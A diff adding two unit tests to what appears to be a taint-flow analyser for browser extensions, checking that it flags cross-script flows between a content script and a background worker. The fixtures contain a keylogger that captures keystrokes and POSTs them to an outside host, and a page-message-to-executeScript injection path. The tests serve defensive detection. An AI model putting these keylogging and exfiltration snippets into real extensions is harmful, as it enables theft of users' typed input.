@@ -36,6 +36,26 @@ describe('flows over one-time messages', () => {
     ]);
   });
 
+  it('lead from what is put into a message before it is sent', () => {
+    const fill = (into: string): string =>
+      `document.addEventListener('keydown', (e) => { const m = { type: 'keys', data: [], n: [] }; m.${into}.push(e.key); chrome.runtime.sendMessage(m) })`;
+    const worker = `chrome.runtime.onMessage.addListener((m) => { if (m.type === 'keys') fetch('https://in.a.dev', { method: 'POST', body: m.data.join() }) })`;
+    const flow = 'key-input content.js > network worker.js (theft, high)';
+    assert.ok(flowsBetween({ 'content.js': fill('data'), 'worker.js': worker }).includes(flow));
+    assert.ok(!flowsBetween({ 'content.js': fill('n'), 'worker.js': worker }).includes(flow));
+  });
+
+  it('lead to code among options that are spread', () => {
+    const content = `window.addEventListener('message', ({ data }) => chrome.runtime.sendMessage({ job: data.job, at: 4 }))`;
+    const worker = (job: string): string =>
+      `chrome.runtime.onMessage.addListener(({ ${job} }) => { const d = { ...${job} }; chrome.tabs.executeScript(5, { ...d, allFrames: true }) })`;
+    const flow = 'page-message content.js > script-injection worker.js (exposure, high)';
+    assert.ok(flowsBetween({ 'content.js': content, 'worker.js': worker('job') }).includes(flow));
+    const named = `chrome.runtime.onMessage.addListener(({ job }) => chrome.tabs.executeScript(5, { ...job, code: 'f()' }))`;
+    assert.ok(!flowsBetween({ 'content.js': content, 'worker.js': worker('at') }).includes(flow));
+    assert.ok(!flowsBetween({ 'content.js': content, 'worker.js': named }).includes(flow));
+  });
+
   const receivers: readonly [string, string][] = [
     [
       'a switch',
